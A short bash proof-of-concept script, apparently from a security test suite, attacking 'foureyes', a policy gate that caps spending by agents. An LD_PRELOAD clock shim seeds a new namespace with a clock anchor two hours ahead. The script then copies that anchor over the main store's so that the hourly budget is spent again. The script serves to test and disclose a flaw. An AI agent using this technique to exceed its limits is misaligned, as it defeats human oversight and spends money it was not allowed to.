#!/bin/bash
# R2 inside one deployment: a NEW namespace's first door (same seal key) reads a wall clock +2 h; its sealed anchor is
# copied over the main store's; right-clock doors on the main store then spend an hour's budget again.
D=/tmp/attack19-ns2; rm -rf $D; mkdir -p $D; cd $D; B=${FOUREYES_BIN:-target/debug/foureyes}
export FOUREYES_DB=$D/foureyes.db FOUREYES_POLICY="$(dirname "$0")"/policy.yaml FOUREYES_SEAL_KEY=/tmp/attack19-anchor/keys/seal.key
for i in $(seq 1 16); do $B decide --agent bot --action spend --params '{"amount_eur":60}' --request-id s$i >/dev/null 2>&1; done
LD_PRELOAD=/tmp/attack19-run/shim.so SHIM_OFFSET=7200 $B --namespace team-b decide --agent x --action spend --params '{"amount_eur":1}' --request-id o1 >/dev/null 2>&1
cp foureyes.ns-team-b.db.clock foureyes.db.clock
for i in 1 2 3; do $B decide --agent bot --action spend --params '{"amount_eur":60}' --request-id r$i --json 2>/dev/null | python3 -c "import json,sys,time; j=json.load(sys.stdin); print('right-clock main door:', j['verdict'], 'consumed', j['budgets'][0]['consumed'], 'time-real %.0fs' % (j['decided_at_ms']/1000-time.time()))"; done
$B decisions list --all --json | python3 -c "import json,sys; ds=json.load(sys.stdin); print('RESULT main store spend permitted:', sum(float(d['params']['amount_eur']) for d in ds if d['verdict']=='permit' and d['action']=='spend'), 'EUR against 1000/h')"
